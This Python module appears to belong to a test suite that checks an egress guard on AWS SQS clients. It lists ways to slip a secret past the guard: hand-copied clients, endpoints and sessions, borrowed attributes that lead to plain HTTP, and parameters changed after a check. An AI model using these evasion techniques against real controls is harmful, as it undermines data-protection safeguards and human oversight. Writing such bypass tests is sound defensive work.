"""Copies of a client, of its parts, of sessions and resources."""

from __future__ import annotations

import copy
from typing import Any

from bypasses.stage import Stage
from bypasses.ways import Family

FAMILY = Family("copying")
way = FAMILY.way


def copied(thing: Any) -> Any:
    """A copy that is put together by hand, where `copy` does not know how."""
    other = object.__new__(type(thing))
    other.__dict__.update(thing.__dict__)
    return other


@way
def client_by_hand(stage: Stage) -> None:
    """A copy of a client that is put together from its attributes."""
    copied(stage.client()).send_message(QueueUrl=stage.bad, MessageBody=stage.secret)


@way
def events(stage: Stage) -> None:
    """A copy of a client with a copy of its events."""
    client = copied(stage.client())
    client.meta = copied(client.meta)
    client.meta.events = copy.copy(client.meta.events)
    client._endpoint = copied(client._endpoint)
    client._endpoint._event_emitter = client.meta.events
    client.send_message(QueueUrl=stage.bad, MessageBody=stage.secret)


@way
def endpoint(stage: Stage) -> None:
    """A copy of a client with a copy of its endpoint."""
    client = copied(stage.client())
    client._endpoint = copied(client._endpoint)
    client.send_message(QueueUrl=stage.bad, MessageBody=stage.secret)


@way
def session_by_copy(stage: Stage) -> None:
    """A client of a copy of a session."""
    session = copy.copy(stage.session())
    session.client("sqs").send_message(QueueUrl=stage.bad, MessageBody=stage.secret)


@way
def resource_by_copy(stage: Stage) -> None:
    """A copy of a queue of a resource."""
    queue = copy.copy(stage.library.resource("sqs").Queue(stage.bad))
    queue.send_message(MessageBody=stage.secret)


@way
def parts_of_two_clients(stage: Stage) -> None:
    """A guarded client with the attributes of another guarded one, which leads to plain HTTP."""
    client, other = stage.client(), stage.client({"endpoint_url": stage.plain.url})
    client.send_message(QueueUrl=stage.good, MessageBody="harmless")
    client.__dict__.update(other.__dict__)
    client.send_message(QueueUrl=stage.good, MessageBody=stage.secret)


@way
def parameters_that_change(stage: Stage) -> None:
    """Parameters that another thread could change: the same dictionary for a good queue, then for a bad one."""
    client = stage.client()
    parameters = {"QueueUrl": stage.good, "MessageBody": "harmless"}
    client.send_message(**parameters)
    parameters.update(QueueUrl=stage.bad, MessageBody=stage.secret)
    client.send_message(**copy.deepcopy(parameters))
